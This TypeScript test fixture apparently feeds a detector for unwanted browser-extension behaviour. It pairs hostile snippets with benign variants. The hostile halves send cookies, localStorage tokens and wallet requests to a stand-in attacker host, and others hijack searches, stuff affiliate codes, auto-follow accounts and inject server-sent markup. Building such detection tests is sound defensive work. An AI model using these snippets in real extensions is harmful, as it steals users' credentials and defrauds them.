import { finding, thief, type Fact } from '../case.ts';
import { pairsOf, type Pair, type Row } from '../pairs.ts';

const far = `https://${thief}`;
const site = (...hosts: readonly string[]): Pick<Row, 'manifest'> => ({
  manifest: {
    permissions: ['alarms', 'notifications', 'storage', 'tabs', 'webNavigation'],
    host_permissions: hosts,
    content_scripts: [{ matches: hosts, js: ['content.js'] }],
  },
});
const content = (code: string): Pick<Row, 'content'> => ({ content: { 'content.js': code } });
const alarm = 'chrome.alarms.onAlarm.addListener';
const click = 'chrome.action.onClicked.addListener';
const onSite = (
  fact: Fact,
  hosts: readonly string[],
  rows: Readonly<Record<string, Row>>,
): typeof rows =>
  Object.fromEntries(
    Object.entries(rows).map(([name, row]) => [name, { ...site(...hosts), ...row, fact }]),
  );

const social = ['https://www.instagram.com/*'];
const follow = "fetch('https://www.instagram.com/web/friendships/77/follow/', { method: 'POST' })";
const button = "const button = document.createElement('button'); document.body.append(button);";
const asSet = (run: string): string =>
  `chrome.storage.sync.get({ auto: false }, ({ auto }) => { if (!auto) return; ${run} });`;

/** What is sent from the user's account: by itself, for a click on what the extension shows, and as the user has set. */
const posts: Readonly<Record<string, Row>> = {
  'at a time or for a button': content(
    `${button} const run = () => { ${follow}; }; «setTimeout(run, 9000)¦button.onclick = run»;`,
  ),
  'by a class': content(
    `${button} class Bulk { constructor() { «this.run()¦button.addEventListener("click", () => this.run())»; } async run() { await ${follow}; } } new Bulk();`,
  ),
  'by a request object': content(
    `${button} function run() { const request = new XMLHttpRequest(); request.open('POST', 'https://www.instagram.com/web/friendships/77/follow/'); request.send(); } «setInterval(run, 90000)¦button.addEventListener("click", run)»;`,
  ),
  'in the worker': { worker: `«${alarm}¦${click}»(async () => { ${follow}; });` },
  'for a message': {
    ...content(
      `${button} const ask = () => chrome.runtime.sendMessage({ kind: 'go' }); «ask()¦button.onclick = ask»;`,
    ),
    worker: `chrome.runtime.onMessage.addListener(({ kind }) => { if (kind === 'go') ${follow}; });`,
  },
  'when a server says so': {
    worker: `const run = () => { ${follow}; }; const socket = new WebSocket('wss://${thief}'); «socket.onmessage = run¦${click}(run)»;`,
  },
  'behind a setting that a page writes': {
    ...content(asSet(`setInterval(() => { ${follow}; }, 60000);`)),
    pages: {
      'popup.html': {
        'popup.js': `document.querySelector('#auto').onchange = ({ target }) => chrome.storage.sync.set({ «theme¦auto»: target.checked });`,
      },
    },
  },
  'behind a setting, a call away': {
    ...content(`const run = () => { ${follow}; }; ${asSet('run();')} «run()¦void 5»;`),
    pages: {
      'popup.html': {
        'popup.js': `document.querySelector('#auto').onchange = ({ target }) => chrome.storage.sync.set({ auto: target.checked });`,
      },
    },
  },
  'to others or for the account alone': content(
    `fetch('https://www.instagram.com/web/friendships/77/«follow¦block»/', { method: 'POST' });`,
  ),
};

const everywhere = ['<all_urls>'];
const frame = (host: string, more: string): string =>
  `const frame = document.createElement('iframe'); frame.style.display = 'none'; frame.src = 'https://${host}'; ${more} document.body.append(frame);`;
/** What a hidden frame is for. */
const frames: Readonly<Record<string, Row>> = {
  'seen by nobody or asked by messages': content(
    frame(
      'go.tides.dev/a',
      `frame.onload = () => frame.contentWindow.postMessage('who', '«*¦https://go.tides.dev»');`,
    ),
  ),
  'unheard or heard': content(
    `addEventListener('message', ({ origin, data }) => { if (origin === '«https://other.dev¦https://go.tides.dev»') chrome.storage.local.set({ name: data.name }); }); ${frame('go.tides.dev/a', '')}`,
  ),
  'heard by the log or by the extension': content(
    `addEventListener('message', ({ origin, data }) => { if (origin === 'https://go.tides.dev') «console.log(data.name)¦chrome.storage.local.set({ name: data.name })»; }); ${frame('go.tides.dev/a', '')}`,
  ),
  'with a code, whatever is said to it': content(
    `addEventListener('message', ({ origin, data }) => { if (origin === 'https://go.tides.dev') chrome.storage.local.set({ name: data.name }); }); ${frame('go.tides.dev/a«?affid=4711¦»', '')}`,
  ),
  'by itself or for a button': content(
    `${button} const show = () => { ${frame('go.tides.dev/a', '')} }; «show()¦button.onclick = show»;`,
  ),
};

const engine = ['https://www.google.com/*'];
/** Of whom a hidden frame is, on the pages of one shop. */
const siteFrames: Readonly<Record<string, Row>> = {
  'of another site or of the page’s': content(frame('«go.tides¦www.shop».dev/list', '')),
  'of its site with a code or without': content(
    frame('www.shop.dev/list«?tag=tides-20¦?page=2»', ''),
  ),
};

/** Where a search goes on. */
const searches: Readonly<Record<string, Row>> = {
  'to a stranger or an engine that is known': {
    worker: `chrome.tabs.onUpdated.addListener((id, { url }) => { if (!url) return; const words = new URL(url).searchParams.get('q'); if (words) chrome.tabs.update(id, { url: 'https://«find.gather.dev¦duckduckgo.com»/?q=' + encodeURIComponent(words) }); });`,
  },
  'by a script, or for a button': content(
    `${button} const words = new URLSearchParams(location.search).get('q'); const go = () => location.assign('${far}/?q=' + encodeURIComponent(words)); «go()¦button.onclick = go»;`,
  ),
  'by itself or as set': {
    worker: `chrome.tabs.onUpdated.addListener(async (id, { url }) => { const { on } = await chrome.storage.sync.get('on'); if (!on || !url) return; const words = new URL(url).searchParams.get('q'); chrome.tabs.update(id, { url: '${far}/?q=' + encodeURIComponent(words) }); });`,
    pages: {
      'popup.html': {
        'popup.js': `document.querySelector('#on').onchange = ({ target }) => chrome.storage.sync.set({ «theme¦on»: target.checked });`,
      },
    },
  },
};

const shops = ['https://*.shop.dev/*'];
/** Codes by which somebody earns from visits that users make anyway. */
const visits: Readonly<Record<string, Row>> = {
  'on the page': content(
    `«location.search += '&tag=tides-20'¦${button} button.onclick = () => { location.search += "&tag=tides-20"; }»;`,
  ),
  'on its links': content(
    `for (const link of document.links) link.href += '«?tag=tides-20¦#reviews»';`,
  ),
  'by a picture': content(`new Image().src = 'https://track.gather.dev/click?«aff_id=12¦page=2»';`),
  'at a network': {
    worker: `«${alarm}¦${click}»(() => { fetch('https://www.awin1.com/cread.php?awinmid=6220&awinaffid=99123', { mode: 'no-cors', credentials: 'include' }); });`,
  },
  'in a tab behind': {
    worker: `«chrome.webNavigation.onCompleted.addListener¦${click}»(async () => { const tab = await chrome.tabs.create({ url: 'https://www.shop.dev/?aid=7788', active: false }); setTimeout(() => chrome.tabs.remove(tab.id), 4000); });`,
  },
};

const searching = (go: string): Pick<Row, 'pages'> => ({
  pages: {
    'tab.html': {
      'tab.js': `const words = document.createElement('input'); document.body.append(words); words.onchange = () => { ${go} };`,
    },
  },
});
/** Where the search box of a new tab leads. */
const relays: Readonly<Record<string, Row>> = {
  'to a relay or an engine': searching(
    `location.href = 'https://«find.gather.dev¦duckduckgo.com»/?from=tab7&q=' + encodeURIComponent(words.value);`,
  ),
  'with a code or without': searching(
    `location.assign(\`https://find.gather.dev/s?«from=tab7&¦»q=\${encodeURIComponent(words.value)}\`);`,
  ),
  'by a tab': searching(
    `chrome.tabs.update({ url: 'https://find.gather.dev/s?«from=tab7&q¦from»=' + encodeURIComponent(words.value) });`,
  ),
  'by a relay or the browser’s own search': searching(
    `«location.href = 'https://find.gather.dev/s?from=tab7&q=' + words.value¦chrome.search.query({ text: words.value })»;`,
  ),
};

const guarded = (first: string): string =>
  `const request = window.ethereum.request; window.ethereum.request = async (asked) => { ${first} return request.call(window.ethereum, asked); };`;
const told = `fetch('${far}', { method: 'POST', body: JSON.stringify(asked) })`;
/** Guards of wallets, profiles that are kept, and servers of the user, beside those who take the same. */
const guards: Readonly<Record<string, Row>> = {
  'of a wallet that ask and heed': {
    ...content(
      guarded(
        `«${told};¦const answer = await ${told}; const { verdict } = await answer.json(); if (verdict !== 'good') throw new Error(verdict);»`,
      ),
    ),
    manifest: {
      content_scripts: [{ matches: ['<all_urls>'], js: ['content.js'], world: 'MAIN' }],
    },
    fact: finding('page-calls-wiretapped'),
  },
  'of profiles that are kept': {
    worker: `chrome.runtime.onMessage.addListener(async ({ name }) => { const all = await chrome.cookies.getAll({ domain: 'linkedin.com' }); «await fetch('${far}', { method: 'POST', body: JSON.stringify(all) })¦await chrome.storage.local.set({ [name]: all })»; });`,
    manifest: {
      permissions: ['cookies', 'storage'],
      host_permissions: ['https://*.linkedin.com/*'],
    },
    fact: finding('login-cookies-read'),
  },
  'of bookmarks on a server of the user': {
    pages: {
      'popup.html': {
        'popup.js': `document.querySelector('#to').onchange = ({ target }) => chrome.storage.local.set({ to: target.value }); document.querySelector('#go').onclick = async () => { const { to } = await chrome.storage.local.get('to'); fetch(«'${far}'¦to» + '/marks', { method: 'PUT', body: JSON.stringify(await chrome.bookmarks.getTree()) }); };`,
      },
    },
    manifest: { permissions: ['bookmarks', 'storage'] },
    fact: finding('browsing-history-sent'),
  },
};

const kept = "const frame = document.createElement('iframe'); document.body.append(frame);";
const sendKept = (of: string): string =>
  `fetch('${far}', { method: 'POST', body: ${of}.getItem('token') });`;
/** Storage of a page that scripts reach through a frame. */
const framed: Readonly<Record<string, Row>> = {
  'the window of a frame': content(
    `${kept} const held = frame.contentWindow; ${sendKept('held.«localStorage¦dataset»')}`,
  ),
  'its storage, taken out': content(
    `${kept} const { localStorage: held } = frame.«contentWindow¦dataset»; ${sendKept('held')}`,
  ),
};

/** A document that scripts reach through a frame. */
const framedPages: Readonly<Record<string, Row>> = {
  'the document of a frame, by a name': content(
    `${kept} const { document: held } = frame.contentWindow; fetch('${far}', { method: 'POST', body: held.«cookie¦dir» });`,
  ),
};

/** Markup of a server that the background sends to pages. */
const relayed: Readonly<Record<string, Row>> = {
  'for a page that loads, or for a click': {
    ...content(
      `«chrome.runtime.sendMessage({ kind: 'hello' });¦» chrome.runtime.onMessage.addListener(({ html }) => { document.body.insertAdjacentHTML('beforeend', html); });`,
    ),
    worker: `const put = async (tab) => { const answer = await fetch('${far}'); chrome.tabs.sendMessage(tab.id, { html: await answer.text() }); }; chrome.runtime.onMessage.addListener((message, { tab }) => { put(tab); }); chrome.action.onClicked.addListener(put);`,
    fact: finding('server-markup-in-pages'),
  },
};

/** Deeds that are the extension's where nobody asks for them, and the user's where a click or a setting does. */
export const unaskedPairs: readonly Pair[] = [
  ...pairsOf('posts of the account', onSite(finding('automated-posting'), social, posts)),
  ...pairsOf('hidden frames', onSite(finding('hidden-frame-inserted'), everywhere, frames)),
  ...pairsOf(
    'hidden frames on one site',
    onSite(finding('hidden-frame-inserted'), shops, siteFrames),
  ),
  ...pairsOf('searches led on', onSite(finding('searches-redirected'), engine, searches)),
  ...pairsOf(
    'searches of a new tab',
    Object.fromEntries(
      Object.entries(relays).map(([name, row]) => [
        name,
        {
          ...row,
          manifest: { permissions: ['search'], chrome_url_overrides: { newtab: 'tab.html' } },
          fact: finding('searches-relayed'),
        },
      ]),
    ),
  ),
  ...pairsOf('guards and keepers', guards),
  ...pairsOf('storage through frames', onSite(finding('page-storage-sent'), everywhere, framed)),
  ...pairsOf('pages through frames', onSite(finding('page-cookies-sent'), everywhere, framedPages)),
  ...pairsOf(
    'markup by the background',
    onSite(finding('server-markup-in-pages'), everywhere, relayed),
  ),
  ...pairsOf('visits that are claimed', onSite(finding('affiliate-visits-claimed'), shops, visits)),
];
